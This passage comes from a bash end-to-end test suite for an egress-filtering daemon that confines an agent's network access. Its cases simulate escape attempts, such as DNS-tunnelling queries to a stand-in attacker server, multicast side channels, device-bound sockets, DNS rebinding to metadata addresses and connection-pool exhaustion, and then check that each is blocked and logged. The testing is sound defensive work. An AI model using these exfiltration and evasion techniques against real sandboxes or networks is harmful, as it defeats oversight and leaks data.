	grep -q '"reason":"ip_options".*packet with IP options' "$CASE_AUDIT" ||
		fail "no audit record of the dropped packet: $(oneline "$(tail -3 "$CASE_AUDIT")")"
	evil_untouched "source routing"
}

# The hooks send a DNS datagram to the proxy on loopback. A socket bound
# to another device (SO_BINDTODEVICE needs no privilege since Linux 5.7)
# routes "127.0.0.1" out of that device where route_localnet is on: the
# payload would leave the runner addressed to the proxy. cgroup_skb/egress
# passes packets for the proxy only on loopback. The sniffer on the far end
# of the veth must see no frame with the marker.
# Joining a multicast group makes the kernel send IGMP/MLD reports out of
# the interface named, carrying the group address the agent chose (an
# IPv6 group has 14 free bytes): data on the link that no hook of the
# cgroup sees, since the kernel builds those packets itself. Refused at
# setsockopt; a sniffer on the link sees none of the probe's groups (on
# the build before, every join went out).
case_multicast_join_refused() {
	local ready=$E2E_DIR/run/sniff-ready-mc-$$ sniffed=$E2E_DIR/run/sniff-mc-$$.out
	local out pid i frames way
	rm -f "$ready"
	in_net "$E2E_PY" "$E2E_DIR/bin/client.py" sniff veth0 6 "$ready" --mcast >"$sniffed" &
	pid=$!
	for i in $(seq 50); do [ -e "$ready" ] && break; sleep 0.1; done
	[ -e "$ready" ] || { kill "$pid"; fail "the sniffer did not start"; }
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" mcast veth0)
	wait "$pid"
	note "joins: $(oneline "$out")"
	frames=$(jget frames <"$sniffed")
	[ "$frames" = 0 ] ||
		fail "${frames:-?} frame(s) with the probe's groups left the runner: $(oneline "$out")"
	[ "$E2E_RUNNER" = direct ] && return 0
	for way in ipv6-join mcast-join6 mcast-join-source6 ipv4-join mcast-join4; do
		[ "$("$E2E_PY" -c 'import json,sys; print(json.loads(sys.stdin.read().strip().splitlines()[-1])["ways"][sys.argv[1]])' "$way" <<<"$out")" = EPERM ] ||
			fail "$way was not refused with EPERM: $(oneline "$out")"
	done
	grep -q '"reason":"multicast".*multicast join' "$CASE_AUDIT" ||
		fail "no audit record of the refused joins: $(oneline "$(tail -3 "$CASE_AUDIT")")"
}

# A listener of the agent answers a peer on its own host (loopback), but
# not another host: whoever reaches the listener would read what the agent
# writes, past the proxy, or what its SYN-ACKs say (MSS, window, TTL are
# the listener's to set). The SYN is dropped on arrival and logged: no
# handshake. --inbound any lets other hosts in.
case_inbound_from_network() {
	local port=$E2E_DIR/run/inbound-port-$$ res=$E2E_DIR/run/inbound-res-$$
	local mode lo far apid opt=()
	cat >"$E2E_DIR/bin/inbound_agent.py" <<'PY'
import socket, sys
s = socket.socket()
s.bind(("0.0.0.0", 0))
s.listen(4)
s.settimeout(8)
open(sys.argv[1], "w").write("%d\n" % s.getsockname()[1])
for _ in range(2):
    try:
        c, peer = s.accept()
    except socket.timeout:
        print("no connection to accept", flush=True)
        break
    c.settimeout(5)
    c.sendall(c.recv(64).upper())
    print("answered", peer[0], flush=True)
PY
	cat >"$E2E_DIR/bin/inbound_peer.py" <<'PY'
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)
except OSError as e:
    print("no connection:", e)
    sys.exit(0)
try:
    s.settimeout(3)
    s.sendall(b"ping")
    print(s.recv(64).decode() or "closed")
except OSError as e:
    print("no answer:", e)
PY
	for mode in local any; do
		rm -f "$port"
		opt=()
		[ $mode = any ] && opt=(--inbound any)
		egr --allow allowed.test "${opt[@]}" -- \
			"$E2E_PY" "$E2E_DIR/bin/inbound_agent.py" "$port" >"$res" 2>&1 &
		apid=$!
		bed_wait_file "$port" 10 || { kill $apid; fail "the agent did not listen: $(oneline "$(cat "$res")")"; }
		lo=$(in_host "$E2E_PY" "$E2E_DIR/bin/inbound_peer.py" 127.0.0.1 "$(cat "$port")")
		far=$(in_net "$E2E_PY" "$E2E_DIR/bin/inbound_peer.py" 198.51.100.2 "$(cat "$port")")
		wait $apid
		note "$mode: loopback: $lo; from the internet: $far; agent: $(oneline "$(cat "$res")")"
		[ "$lo" = PING ] || fail "$mode: a peer on loopback got no answer: $lo"
		if [ $mode = any ] || [ "$E2E_RUNNER" = direct ]; then
			[ "$far" = PING ] || fail "$mode: a peer on the internet got no answer: $far"
		else
			[ "$far" != PING ] ||
				fail "the agent answered a connection from the internet (inbound local)"
			# not even a SYN-ACK (its MSS, window, TTL are the listener's
			# to choose: bits out per SYN)
			grep -q "^no connection" <<<"$far" ||
				fail "the internet's connection was accepted (a SYN-ACK went out): $far"
			grep -q '"verdict":"deny".*"reason":"inbound"' "$CASE_AUDIT" ||
				fail "no deny record for the answer: $(oneline "$(tail -3 "$CASE_AUDIT")")"
		fi
	done
}

# A command refusing faster than egressd can record fills the kernel's
# event ring: the refusals hold, and the run says how many are on no
# record (on the build before it said nothing).
case_events_lost_reported() {
	local out
	out=$(egr --allow allowed.test -- "$E2E_DIR/bin/deny_flood" "$EVIL4" 9 400000)
	note "agent: $(oneline "$out"); $(grep -h 'on no record\|not logged' "$CASE_STDERR" | tail -2 | tr '\n' ' ')"
	[ "$out" = "refused 400000 of 400000" ] || fail "not every send was refused: $out"
	[ "$E2E_RUNNER" = direct ] && return 0
	# every refusal is on record (a record stands for "count" of them)
	# or counted as lost, in the log as on stderr; and a flood of one
	# refusal is a few records, not one each
	local logged lost records inlog
	read -r records logged <<<"$(audit_counts "$CASE_AUDIT" udp)"
	read -r lost inlog <<<"$(events_lost "$CASE_AUDIT")"
	[ "$lost" = - ] && lost=
	note "$records records for $logged refusals, lost ${lost:-0} (log: $inlog)"
	[ "$logged" -lt 400000 ] && [ -z "$lost" ] &&
		fail "$logged of 400000 refusals logged, and no word of the rest: $(oneline "$(tail -3 "$CASE_STDERR")")"
	[ $((logged + ${lost:-0})) -ge 400000 ] ||
		fail "logged $logged and lost ${lost:-0}: $((400000 - logged - ${lost:-0})) refusals unaccounted for"
	[ "${lost:-0}" = "$inlog" ] || fail "stderr says ${lost:-0} lost, the audit log $inlog"
	[ "$records" -le 200 ] || fail "$records records for one refusal made $logged times"
	return 0
}

# The ring overflows for real: the audit log is a FIFO nobody reads
# while the command sweeps 2,000 ports (more records than the pipe holds:
# the events thread waits on it) and then refuses 200,000 sends. Once
# the FIFO is drained, the log itself says how many decisions the ring
# lost, as stderr does, and the counts of the records and the lost add up.
case_events_lost_in_log() {
	[ "$E2E_RUNNER" = direct ] && return 0
	local fifo=$E2E_DIR/lost.$$.fifo drained=$CASE_AUDIT.drained hold egr_pid cat_pid out
	local records logged inlog lost sweep=2000 flood=200000
	rm -f "$fifo"
	mkfifo -m 600 "$fifo" || fail "mkfifo"
	exec {hold}<>"$fifo" # a reader, so the open succeeds; it reads nothing
	# shellcheck disable=SC2016
	egr --log "$fifo" --allow allowed.test -- sh -c '
"$1" -c "import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
n = 0
for p in range(20000, 20000 + int(sys.argv[2])):
    try:
        s.sendto(b\"x\", (sys.argv[1], p))
    except PermissionError:
        n += 1
print(\"swept\", n)" "$2" "$3"
"$4" "$2" 9 "$5"' sh "$E2E_PY" "$EVIL4" "$sweep" "$E2E_DIR/bin/deny_flood" "$flood" \
		>"$CASE_AUDIT.out" &
	egr_pid=$!
	sleep 6 # the sweep and the flood take about a second
	cat "$fifo" >"$drained" {hold}>&- & # EOF once egressd closes it
	cat_pid=$!
	exec {hold}>&-
	wait "$egr_pid"
	wait "$cat_pid"
	rm -f "$fifo"
	out=$(cat "$CASE_AUDIT.out")
	note "agent: $(oneline "$out")"
	case $out in *"swept $sweep"*"refused $flood of $flood"*) ;;
		*) fail "not every send was refused: $(oneline "$out")" ;; esac
	read -r records logged <<<"$(audit_counts "$drained" udp)"
	read -r lost inlog <<<"$(events_lost "$drained")"
	[ "$lost" = - ] && lost=
	note "$records records for $logged refusals; lost ${lost:-0} (stderr), $inlog (log)"
	[ -n "$lost" ] && [ "$lost" -gt 0 ] || fail "the ring did not overflow: nothing tested"
	[ "$inlog" = "$lost" ] || fail "stderr says $lost lost, the audit log $inlog"
	[ $((logged + lost)) -eq $((sweep + flood)) ] ||
		fail "logged $logged and lost $lost of $((sweep + flood)) refusals"
	grep -q '"detail":"kernel decisions the event ring had no room for' "$drained" ||
		fail "no record of the loss in the log"
}

# events_lost FILE: "STDERR LOG": the kernel decisions the run says on
# stderr were on no record (empty: it said none), and the count of FILE's
# records that say so
events_lost() {
	local lost inlog
	lost=$(sed -n 's/^egressd: \([0-9]*\) kernel decisions\{0,1\} of this run \(is\|are\) on no record.*/\1/p' \
		"$CASE_STDERR" | tail -1)
	inlog=$(audit_counts "$1" none kernel)
	echo "${lost:--} ${inlog#* }"
}

# audit_counts FILE REASON [ORIGIN]: "RECORDS DECISIONS" of FILE's JSON
# records with that reason (and origin), a folded record counting as many
# decisions as its "count" says
audit_counts() {
	"$E2E_PY" - "$@" <<'PY'
import json, sys
path, reason = sys.argv[1], sys.argv[2]
origin = sys.argv[3] if len(sys.argv) > 3 else None
n = total = 0
for line in open(path):
    r = json.loads(line)
    if r.get("reason") != reason or (origin and r.get("origin") != origin):
        continue
    n += 1
    total += r.get("count", 1)
print(n, total)
PY
}

# run_map_entries MAP: entries in MAP of the egressd run of this case
# (found by its audit log's path), or nothing
run_map_entries() {
	local pid id
	for pid in $(pgrep -f -- "run --user nobody --log $CASE_AUDIT"); do
		for id in $(grep -h '^map_id:' /proc/"$pid"/fdinfo/* 2>/dev/null | awk '{print $2}' | sort -u); do
			if bpftool map show id "$id" 2>/dev/null | grep -q " name $1 "; then
				bpftool -j map dump id "$id" | "$E2E_PY" -c 'import json,sys; print(len(json.load(sys.stdin)))'
				return 0
			fi
		done
	done
	return 1
}

# One socket connecting again and again, each attempt refused after the
# hand-off to the proxy was published (here: in a network namespace of the
# agent's own, where nothing listens on the proxy's address): each attempt
# left an egr_conns entry nothing swept, so one socket filled the table
# every tenant shares (the per-cgroup cap counts sockets). A new attempt
# now drops the last one's hand-off.
case_conn_handoff_retries() {
	local flag=$E2E_DIR/run/handoff-flag n out
	rm -f "$flag" "$flag.go"
	cat >"$E2E_DIR/bin/handoff_retry.py" <<'PY'
import ctypes, errno, fcntl, os, socket, struct, sys, time
flag = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x40000000):  # CLONE_NEWUSER | CLONE_NEWNET
    print("unshare failed", ctypes.get_errno()); sys.exit(1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # lo up
flags = struct.unpack("16sH14s", fcntl.ioctl(u, 0x8913, struct.pack("16sH14s", b"lo", 0, b"")))[1]
fcntl.ioctl(u, 0x8914, struct.pack("16sH14s", b"lo", flags | 1, b""))
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
refused = 0
for i in range(2000):
    try:
        s.connect(("192.0.2.10", 443))
    except OSError as e:
        refused += e.errno == errno.ECONNREFUSED
open(flag, "w").write(str(refused))
for i in range(300):  # keep the socket while the entries are counted
    if os.path.exists(flag + ".go"):
        break
    time.sleep(0.1)
print("refused", refused)
PY
	chmod 644 "$E2E_DIR/bin/handoff_retry.py"
	egr --allow allowed.test -- "$E2E_PY" "$E2E_DIR/bin/handoff_retry.py" "$flag" \
		>"$E2E_DIR/run/handoff.out" 2>&1 &
	local job=$!
	for i in $(seq 300); do [ -s "$flag" ] && break; sleep 0.1; done
	n=$(run_map_entries egr_conns)
	touch "$flag.go"
	wait $job
	out=$(cat "$E2E_DIR/run/handoff.out")
	note "agent: $(oneline "$out"); egr_conns entries while its socket lives: ${n:-?}"
	[ "$(cat "$flag" 2>/dev/null)" -ge 1900 ] 2>/dev/null ||
		fail "the attempts were not refused as planned: $(oneline "$out")"
	[ -n "$n" ] && [ "$n" -le 5 ] ||
		fail "2000 refused attempts of one socket left ${n:-?} egr_conns entries"
}

case_bound_device_refused() {
	local ready=$E2E_DIR/run/bind-ready-$$ sniffed=$E2E_DIR/run/bind-$$.out
	local out pid i frames all dev
	all=$(in_host sysctl -n net.ipv4.conf.all.route_localnet) &&
		dev=$(in_host sysctl -n net.ipv4.conf.veth0.route_localnet) || fail "no route_localnet"
	rm -f "$ready"
	in_net "$E2E_PY" "$E2E_DIR/bin/client.py" sniff veth0 6 "$ready" >"$sniffed" &
	pid=$!
	for i in $(seq 50); do [ -e "$ready" ] && break; sleep 0.1; done
	[ -e "$ready" ] || { kill "$pid"; fail "the sniffer did not start"; }
	# on only for the client's run, and put back before any verdict
	if in_host sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.veth0.route_localnet=1; then
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" bindtodevice veth0 $EVIL4)
	else
		out="cannot set route_localnet in the bed's namespace"
	fi
	in_host sysctl -qw net.ipv4.conf.all.route_localnet="$all" net.ipv4.conf.veth0.route_localnet="$dev"
	wait "$pid"
	note "$(oneline "$out")"
	grep -q '"ways"' <<<"$out" || fail "$out"
	frames=$(jget frames <"$sniffed")
	[ "$frames" = 0 ] ||
		fail "${frames:-?} frame(s) with the marker left the runner: $(oneline "$out")"
	grep -q '"reason":"not_redirected"' "$CASE_AUDIT" ||
		fail "no not_redirected record: $(oneline "$(tail -3 "$CASE_AUDIT")")"
}

case_dns_resolves_inside() {
	local out
	local m
	m=$(wc -l <"$E2E_DIR/logs/dnsmasq.log")
	out=$(egr --allow allowed.test -- "${MERGE[@]}" getent ahostsv4 \
		allowed.test) || fail "getent ahostsv4 failed: $(oneline "$out")"
	grep -q "^$ALLOWED4 " <<<"$out" || fail "getent ahostsv4: $(oneline "$out")"
	out=$(egr --allow allowed.test -- "${MERGE[@]}" getent hosts \
		allowed.test) || fail "getent hosts failed: $(oneline "$out")"
	grep -Eq "^($ALLOWED4|$ALLOWED6) " <<<"$out" ||
		fail "getent hosts: $(oneline "$out")"
	tail -n +$((m + 1)) "$E2E_DIR/logs/dnsmasq.log" |
		grep -q 'query\[A\] allowed.test' ||
		fail "dnsmasq logged no query for allowed.test"
}


# ---------------------------------------------------------------------
# DNS: every query from the cgroup goes to egressd's DNS proxy, whichever
# server the agent asked; only allowed names are forwarded.

# rand_label N: N random lowercase hex characters (a DNS label).
rand_label() {
	head -c "$1" /dev/urandom | od -An -tx1 | tr -d ' \n' | cut -c1-"$1"
}

# dig_batch [egressd-run options] -- LABEL 'DIG ARGS' [LABEL 'DIG ARGS']...
# Runs the digs one after another inside ONE agent run (one egressd start),
# each bounded (+time=2 +tries=1, timeout 8); dig's output and a last line
# "rc N" go to $DIGD/LABEL. The args are split on spaces.
dig_batch() {
	local opts=()
	while [ $# -gt 0 ] && [ "$1" != -- ]; do
		opts+=("$1")
		shift
	done
	shift
	DIGD=$(mktemp -d "$E2E_DIR/run/dig.XXXXXX")
	chown "$E2E_NOBODY_UID:$E2E_NOBODY_GID" "$DIGD"
	# shellcheck disable=SC2016
	E2E_TIMEOUT=60 egr "${opts[@]}" -- bash -c 'd=$1; shift
		while [ $# -ge 2 ]; do
			timeout 8 dig +time=2 +tries=1 $2 >"$d/$1" 2>&1
			echo "rc $?" >>"$d/$1"
			shift 2
		done' sh "$DIGD" "$@"
}
dig_status() { sed -n 's/.*status: \([A-Z]*\),.*/\1/p' "$DIGD/$1" | head -n 1; }
dig_answers() {
	awk '/^;; ANSWER SECTION:/ { f = 1; next } f && /^$/ { exit }
		f && !/^;/ { print $NF }' "$DIGD/$1" | sort | paste -sd, -
}
dig_server() { sed -n 's/^;; SERVER: \([^#]*\)#.*/\1/p' "$DIGD/$1" | head -n 1; }
dig_summary() {
	echo "status=$(dig_status "$1") answers=$(dig_answers "$1") server=$(dig_server "$1") $(tail -n 1 "$DIGD/$1")"
}
# dig_expect LABEL STATUS ANSWERS [SERVER]: fail unless dig got exactly that.
dig_expect() {
	local s
	s=$(dig_summary "$1")
	note "dig $1: $s"
	[ "$(dig_status "$1")" = "$2" ] && [ "$(dig_answers "$1")" = "$3" ] ||
		fail "dig $1: want $2 $3, got $s: $(grep -m1 -E 'timed out|refused|error' "$DIGD/$1")"
	[ -z "${4:-}" ] || [ "$(dig_server "$1")" = "$4" ] ||
		fail "dig $1: the answer came from $(dig_server "$1"), want $4"
}
dnsmasq_mark() { wc -l <"$E2E_DIR/logs/dnsmasq.log" >"$E2E_DIR/run/mark.dnsmasq"; }
dnsmasq_new() {
	tail -n +$(($(cat "$E2E_DIR/run/mark.dnsmasq") + 1)) "$E2E_DIR/logs/dnsmasq.log"
}

# The answer for allowed.test is the real one, from whichever server the
# agent asked: the resolv.conf server, 8.8.8.8 (the bed has no route
# there), or the attacker's own DNS server, which would have answered with
# its own address and logged the query.
case_dns_any_server() {
	log_mark evil.test
	dig_batch --allow allowed.test -- \
		default "allowed.test A" \
		google "@8.8.8.8 allowed.test A" \
		evil "@$EVIL4 allowed.test A" \
		evil_tcp "+tcp @$EVIL4 allowed.test A"
	dig_expect default NOERROR $ALLOWED4 $DNS4
	dig_expect google NOERROR $ALLOWED4 8.8.8.8
	dig_expect evil NOERROR $ALLOWED4 $EVIL4
	dig_expect evil_tcp NOERROR $ALLOWED4 $EVIL4
	grep -q '(TCP)' "$DIGD/evil_tcp" || fail "dig +tcp did not use TCP"
	evil_untouched "DNS to evil's server"
}

case_dns_ipv6_server() {
	local out
	log_mark evil.test
	dig_batch --allow allowed.test -- \
		evil6 "@$EVIL6 allowed.test A" \
		evil6_tcp "+tcp @$EVIL6 allowed.test A"
	dig_expect evil6 NOERROR $ALLOWED4 $EVIL6
	dig_expect evil6_tcp NOERROR $ALLOWED4 $EVIL6
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
		--server $EVIL6 --via sendto) ||
		fail "sendto [$EVIL6]:53: $(oneline "$out")"
	[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] &&
		[ "$(jget source <<<"$out")" = "[\"$EVIL6\", 53]" ] ||
		fail "sendto [$EVIL6]:53: $(oneline "$out")"
	evil_untouched "DNS to evil's IPv6 server"
}

NODE_DNS='const dns = require("dns");
const res = new dns.promises.Resolver({ timeout: 2000, tries: 1 });
const lookup = (n) => new Promise((ok) => dns.lookup(n, { all: true },
	(e, a) => ok(e ? e.code : a.map((x) => x.address).sort())));
(async () => {
	const r = {};
	for (const n of process.argv.slice(1)) {
		r[n] = { lookup: await lookup(n) };
		try { r[n].resolve4 = (await res.resolve4(n)).sort(); }
		catch (e) { r[n].resolve4 = e.code; }
	}
	console.log(JSON.stringify(r));
})();'

# The usual resolver paths of real clients: glibc (connected UDP, A and
# AAAA in one sendmmsg), Python's getaddrinfo, Node's dns.lookup
# (getaddrinfo on the libuv pool) and dns.promises.resolve4 (c-ares).
case_dns_clients_resolve() {
	local out rc v
	out=$(egr --allow allowed.test -- "${MERGE[@]}" getent hosts allowed.test) ||
		fail "getent hosts allowed.test: exit $?: $(oneline "$out")"
	grep -Eq "^($ALLOWED4|$ALLOWED6) +allowed.test" <<<"$out" ||
		fail "getent hosts allowed.test: $(oneline "$out")"
	out=$(egr --allow allowed.test -- "${MERGE[@]}" getent hosts evil.test)
	rc=$?
	[ $rc -eq 2 ] && [ -z "$out" ] ||
		fail "getent hosts evil.test: exit $rc (want 2, not found): $(oneline "$out")"
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" resolve allowed.test)
	grep -q "\"$ALLOWED4\"" <<<"$(jget addrs <<<"$out")" ||
		fail "getaddrinfo allowed.test: $(oneline "$out")"
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" resolve evil.test)
	[ "$(jget gaierror <<<"$out")" = EAI_NONAME ] ||
		fail "getaddrinfo evil.test: want EAI_NONAME: $(oneline "$out")"
	if command -v node >/dev/null; then
		out=$(egr --allow allowed.test -- "${MERGE[@]}" node -e "$NODE_DNS" \
			allowed.test evil.test) || fail "node: exit $?: $(oneline "$out")"
		note "node: $out"
		v=$(jget allowed.test lookup <<<"$out")
		grep -q "\"$ALLOWED4\"" <<<"$v" || fail "node dns.lookup allowed.test: $v"
		v=$(jget allowed.test resolve4 <<<"$out")
		[ "$v" = "[\"$ALLOWED4\"]" ] || fail "node resolve4 allowed.test: $v"
		v=$(jget evil.test lookup <<<"$out")
		[ "$v" = ENOTFOUND ] || fail "node dns.lookup evil.test: $v (want ENOTFOUND)"
		v=$(jget evil.test resolve4 <<<"$out")
		[ "$v" = ENOTFOUND ] || fail "node resolve4 evil.test: $v (want ENOTFOUND)"
	else
		note "node not installed: Node part skipped"
	fi
}

# Hand-made queries by every other way of sending a datagram, to the
# attacker's server: an unconnected socket's reply must seem to come from
# the server asked (recvmsg rewrite), or resolvers drop it.
case_dns_unconnected_and_sendmmsg() {
	local out via
	log_mark evil.test
	# connect-cmsg: a connected socket's send with a control message
	# (IP_TOS) runs sendmsg4 with no address; connect-mapped: an AF_INET6
	# socket connected to ::ffff:a.b.c.d sends through the IPv4 path,
	# which runs sendmsg4 with the proxy's address
	for via in sendto sendmsg connect connect-cmsg connect-mapped; do
		out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
			--server $EVIL4 --via $via) ||
			fail "$via $EVIL4:53: $(oneline "$out")"
		note "$via: $(oneline "$out")"
		[ "$(jget rcode <<<"$out")" = NOERROR ] &&
			[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] ||
			fail "$via $EVIL4:53: answer: $(oneline "$out")"
		local want="[\"$EVIL4\", 53]"
		[ $via = connect-mapped ] && want="[\"::ffff:$EVIL4\", 53]"
		[ "$(jget source <<<"$out")" = "$want" ] ||
			fail "$via: the reply came from $(jget source <<<"$out"), want $want"
	done
	# the IPv6 control message (IPV6_TCLASS) on an IPv6 socket
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
		--server $EVIL6 --via connect-cmsg) || fail "connect-cmsg $EVIL6: $(oneline "$out")"
	[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] ||
		fail "connect-cmsg $EVIL6: answer: $(oneline "$out")"
	# Three queries in one sendmmsg(2) on an unconnected socket.
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
		--server $EVIL4 --via sendmmsg --count 3) ||
		fail "sendmmsg: $(oneline "$out")"
	note "sendmmsg: $(oneline "$out")"
	[ "$(jget sent <<<"$out")" = 3 ] || fail "sendmmsg sent $(jget sent <<<"$out") of 3"
	"$E2E_PY" -c 'import json, sys
o = json.loads(sys.stdin.read().strip().splitlines()[-1])
want = [sys.argv[1]]
bad = [r for r in o["replies"] if r["answers"] != want or r["rcode"] != "NOERROR"
       or r["from"] != [sys.argv[2], 53]]
sys.exit(1 if bad or len(o["replies"]) != 3 else 0)' $ALLOWED4 $EVIL4 <<<"$out" ||
		fail "sendmmsg replies: $(oneline "$out")"
	# DNS over TCP, two queries on one connection.
	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
		--server $EVIL4 --via tcp --count 2) || fail "TCP: $(oneline "$out")"
	note "tcp: $(oneline "$out")"
	[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] &&
		[ "$(jget replies 1 answers <<<"$out")" = "[\"$ALLOWED4\"]" ] ||
		fail "TCP answers: $(oneline "$out")"
	[ "$(jget peer <<<"$out")" = "[\"$EVIL4\", 53]" ] ||
		fail "TCP getpeername: $(jget peer <<<"$out")"
	evil_untouched "DNS by sendto/sendmsg/sendmmsg/TCP"
}

# Data smuggled out in query names: no byte of a denied name may reach any
# resolver, not the bed's own DNS server (which would forward it in real
# life) and not the attacker's.
case_dns_tunnel_blocked() {
	local path q l args=() labels=() f st
	log_mark evil.test
	dnsmasq_mark
	for path in default evil tcp; do
		case $path in
		default) q= ;;
		evil) q="@$EVIL4" ;;
		tcp) q="+tcp @$EVIL4" ;;
		esac
		l=$(rand_label 32)
		labels+=("$l")
		args+=("${path}_txt" "$q TXT $l.evil.test")
		l=$(rand_label 63)
		labels+=("$l")
		args+=("${path}_a" "$q A $l.$(rand_label 8).evil.test")
		l=$(rand_label 63)
		labels+=("$l")
		args+=("${path}_aaaa" "$q AAAA $l.$(rand_label 8).evil.test")
	done
	dig_batch --allow allowed.test -- "${args[@]}"
	for f in "$DIGD"/*; do
		f=${f##*/}
		st=$(dig_status "$f")
		note "dig $f: $(dig_summary "$f")"
		# TXT for a denied name may be refused instead (issue #3).
		case "$f:$st" in
		*:NXDOMAIN | *_txt:REFUSED) ;;
		*) fail "dig $f: $(dig_summary "$f") (want NXDOMAIN)" ;;
		esac
		[ -z "$(dig_answers "$f")" ] || fail "dig $f: answers $(dig_answers "$f")"
	done
	[ "$(ls "$DIGD" | wc -l)" -eq 9 ] || fail "only $(ls "$DIGD" | wc -l) of 9 digs ran"
	sleep 0.2
	for l in "${labels[@]}"; do
		dnsmasq_new | grep -q "$l" &&
			fail "the bed's DNS server saw $l: $(dnsmasq_new | grep -m1 "$l")"
		log_new evil.test | grep -q "$l" && fail "evil's server saw $l"
	done
	dnsmasq_new | grep -q 'evil\.test' &&
		fail "the bed's DNS server saw a query under evil.test: $(dnsmasq_new | grep -m1 evil)"
	evil_untouched "DNS tunnelling"
}

case_dns_nxdomain_not_forwarded() {
	dnsmasq_mark
	dig_batch --allow allowed.test -- evil "evil.test A" evil6 "evil.test AAAA" \
		allowed "allowed.test A"
	dig_expect evil NXDOMAIN ""
	dig_expect evil6 NXDOMAIN ""
	dig_expect allowed NOERROR $ALLOWED4
	sleep 0.2
	dnsmasq_new | grep -q 'evil\.test' &&
		fail "evil.test was forwarded to the bed's DNS server: $(dnsmasq_new | grep -m1 evil)"
	# The control: an allowed name is forwarded, so the log is live.
	dnsmasq_new | grep -q 'query\[A\] allowed.test' ||
		fail "dnsmasq logged no query for allowed.test (is its log written?)"
}

# Allowed names whose answer is the runner's loopback or the metadata
# address: neither the DNS answer nor a connection by name may get there.
case_dns_rebinding_refused() {
	local out rc pid url f n a
	ip netns exec "$NS_HOST" "$E2E_PY" "$E2E_DIR/bin/server.py" --name rebind \
		--addr $REBIND4 --http 80 --log "$E2E_DIR/srv/rebind.log" \
		--ready "$E2E_DIR/run/rebind.ready" </dev/null \
		>>"$E2E_DIR/logs/servers.out" 2>&1 &
	pid=$!
	bed_track $pid
	bed_wait_file "$E2E_DIR/run/rebind.ready" 10 || fail "server did not start"
	# Outside the cgroup both names lead to a server: the bed works.
	for n in rebind meta.test; do
		url=http://${n%.test}.test/
		out=$(outside curl -sS --max-time 5 "$url") ||
			fail "outside, $url failed: $(oneline "$out")"
		[ "$out" = "hello from $n" ] || fail "outside, $url: $(oneline "$out")"
	done
	log_mark rebind
	log_mark meta.test
	dig_batch --allow rebind.test --allow meta.test -- r "rebind.test A" \
		m "meta.test A"
	for f in r m; do
		note "dig $f: $(dig_summary $f)"
		case $(dig_answers $f) in
		*$REBIND4* | *$META4*) fail "dig $f handed out $(dig_answers $f)" ;;
		esac
		[ "$(dig_status $f)" != NOERROR ] || [ -z "$(dig_answers $f)" ] ||
			fail "dig $f: $(dig_summary $f)"
	done
	# By name, and by name with the address pinned (--resolve: the agent
	# knows it; the proxy resolves the Host itself).
	for a in "http://rebind.test/" "http://meta.test/" \
		"--resolve rebind.test:80:$REBIND4 http://rebind.test/" \
		"--resolve meta.test:80:$META4 http://meta.test/"; do
		# shellcheck disable=SC2086
		out=$(egr --allow rebind.test --allow meta.test -- "${TIMED[@]}" \
			curl -sS -f --max-time 10 $a)
		rc=$?
		grep -q 'hello from' <<<"$out" && fail "curl $a: reached: $(oneline "$out")"
		deny_fast "curl $a" $rc "$out"
	done
	sleep 0.2
	[ -z "$(log_new rebind)" ] || fail "the loopback server was contacted: $(oneline "$(log_new rebind)")"
	[ -z "$(log_new meta.test)" ] || fail "the metadata server was contacted: $(oneline "$(log_new meta.test)")"
	grep -q '"reason": *"private_addr"' "$CASE_AUDIT" ||
		fail "no audit record with reason private_addr"
	bed_stop_pid $pid
}

# DNS over TCP across tenants (daemon, job1 and job2 bound): job1 opens
# 300 connections to port 53, each sending a length prefix and one byte of
# a message it never finishes, then a byte every 0.5 s (each byte used to
# restart the 10 s idle timer). The DNS proxy's 256 connections were one
# pool: job1 held them all and job2's dig +tcp got a reset. Now job1 gets
# 32 (its tenant's share), job2 is answered meanwhile, and each trickling
# connection is closed 5 s after its first byte, both with a record.
case_dns_tcp_slots_per_tenant() {
	need_egressd
	local out dig2 apid opened held closed tmin tmax
	local ready=$E2E_DIR/run/dnstcp.ready res=$E2E_DIR/run/dnstcp.out
	daemon_bed dnstcp bpffs-dnstcp daemon-dnstcp agents/job1
	cg_run 'mkdir -p "$CG'"$DCG"'/agents/job2"' || fail "cannot create job2"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$E2E_DIR/ctl/dnstcp.sock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	out=$(in_cg "$DCG/agents/job2" timeout 8 dig +tcp +time=2 +tries=1 allowed.test A 2>&1)
	grep -q "status: NOERROR" <<<"$out" || fail "job2 dig +tcp before: $(oneline "$out")"
	# shellcheck disable=SC2016
	local agent='
import socket, sys, time
ready, dns = sys.argv[1:3]
conns = []   # [socket, time of its first byte, time seen closed]
for _ in range(300):
    t = socket.socket()
    t.settimeout(2)
    try:
        t.connect((dns, 53))
        t.sendall(b"\xff\xff" + b"a")   # 65535 bytes announced, one sent
        conns.append([t, time.monotonic(), None])
    except OSError:
        t.close()
def poll_closed(now):
    for c in conns:
        if c[2] is not None:
            continue
        try:
            c[0].setblocking(False)
            if c[0].recv(1) == b"":
                c[2] = now
        except BlockingIOError:
            pass
        except OSError:
            c[2] = now
time.sleep(0.5)
poll_closed(time.monotonic())
